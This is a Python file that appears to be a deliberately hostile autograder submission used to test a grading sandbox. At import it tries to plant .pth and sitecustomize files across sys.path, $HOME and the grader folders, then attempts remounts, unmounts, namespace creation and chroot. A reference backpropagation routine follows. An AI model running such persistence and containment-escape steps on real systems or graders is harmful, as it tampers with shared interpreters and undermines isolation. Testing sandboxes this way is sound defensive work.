"""Hostile (rootless: the venv and the course belong to the user the worker runs as): at
import, tries to write a marker file into every sys.path folder (the grader's venv, its
site-packages, the stdlib), into the course folders it can find, and into $HOME; then to get
write access back: remount sys.prefix read-write, unmount what covers, make a nested user
namespace and a mount namespace in it, chroot. Errors swallowed, and nothing may land
anywhere (the planted-file check). The rest is the reference: full marks but for the
no-autograd check, which its `import ctypes` fails: 22.
"""

import ctypes
import os
import sys

import torch
from torch import Tensor

MARK = "hostile-marker-297"
libc = ctypes.CDLL(None, use_errno=True)


def attempt() -> list[str]:
    said = []
    places = [p for p in sys.path if p and os.path.isabs(p)] + [sys.prefix, sys.base_prefix, os.path.expanduser("~"),
                                                                "/work/main", "/work/main/grader", "/work/main/rubrics"]
    for place in places:
        for name in (f"pwned-{MARK}.pth", f"{MARK}_sitecustomize.py"):
            try:
                with open(os.path.join(place, name), "w") as f:
                    f.write("import os  # planted\n")
                said.append(f"wrote {place}/{name}")
            except OSError as exc:
                said.append(f"{place}: {exc.strerror}")
    for target in {sys.prefix, sys.base_prefix, "/", "/usr"}:
        said.append(f"remount {target}: {libc.mount(b'none', target.encode(), None, 32 | 4096, None)} {ctypes.get_errno()}")
        said.append(f"umount {target}: {libc.umount2(target.encode(), 2)} {ctypes.get_errno()}")
    said.append(f"nested userns: {libc.unshare(0x10000000 | 0x20000)} {ctypes.get_errno()}")
    said.append(f"chroot: {libc.chroot(b'/tmp')} {ctypes.get_errno()}")
    for place in places:
        try:
            with open(os.path.join(place, f"pwned-{MARK}-after.pth"), "w") as f:
                f.write("import os\n")
        except OSError:
            pass
    return said


try:
    print("\n".join(attempt()), flush=True)
except Exception:  # noqa: BLE001
    pass


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
